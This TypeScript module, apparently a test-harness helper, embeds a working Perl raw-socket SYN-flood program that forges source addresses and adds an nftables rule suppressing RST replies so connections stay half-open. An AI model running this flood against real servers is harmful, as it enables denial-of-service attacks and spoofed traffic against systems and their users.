import type { Host } from "./host.ts";

/**
 * A raw socket in perl(1), which Node.js lacks: opens a TCP connection from a forged address and never answers,
 * as a flood of SYNs does. Arguments: server, port, count per second, and the address it pretends to be, or `*` for
 * another one each time. Its ports are below those of real connections (ip(7), ip_local_port_range), because a real
 * connection with the ports of a half-open one would get no answer.
 */
const PROGRAM = String.raw`
use Socket; use Time::HiRes "sleep";
my ($to, $port, $count, $pause, $from) = @ARGV;
socket(my $raw, PF_INET, SOCK_RAW, 255) or die "socket: $!";
setsockopt($raw, 0, 3, pack("i", 1)) or die "IP_HDRINCL: $!";
my $target = inet_aton($to);
sub sum { my $n = 0; $n += $_ for unpack("n*", $_[0]); $n = ($n & 0xffff) + ($n >> 16) while $n >> 16; ~$n & 0xffff }
for my $i (1 .. $count) {
  my $source = $from eq "*" ? pack("C4", 100, 64 + ($i >> 16), ($i >> 8) & 255, $i & 255) : inet_aton($from);
  my @head = (1024 + int(rand(31000)), $port, int(rand(2 ** 32)), 0, 5 << 4, 2, 64240);
  my $tcp = pack("nnNNCCnnn", @head, 0, 0);
  $tcp = pack("nnNNCCnnn", @head, sum($source . $target . pack("nn", 6, length $tcp) . $tcp), 0);
  my $ip = pack("CCnnnCCna4a4", 0x45, 0, 20 + length $tcp, $i & 0xffff, 0, 64, 6, 0, $source, $target);
  send($raw, $ip . $tcp, 0, pack_sockaddr_in($port, $target)) or die "send: $!";
  sleep($pause) if $pause > 0;
}
`;

export type Flood = Readonly<{ to: string; port: number; from: string; count: number; pauseS?: number }>;

/** Resolves once all are sent. */
export const sendSyns = (host: Host, { to, port, from, count, pauseS = 0 }: Flood) =>
  host.mustExec(["perl", "-e", PROGRAM, to, String(port), String(count), String(pauseS), from]);

/** Makes the host ignore unsolicited packets, like a host behind a careful router: no reset ends half-open connections. */
export async function fallSilent(host: Host): Promise<void> {
  const rule = "tcp flags & (syn | ack | rst) == rst drop";
  const chain = `chain output { type filter hook output priority 0; policy accept; ${rule}; }`;
  await host.mustExec(["nft", "-f", "-"], { input: `table inet silence {\n${chain}\n}\n` });
}
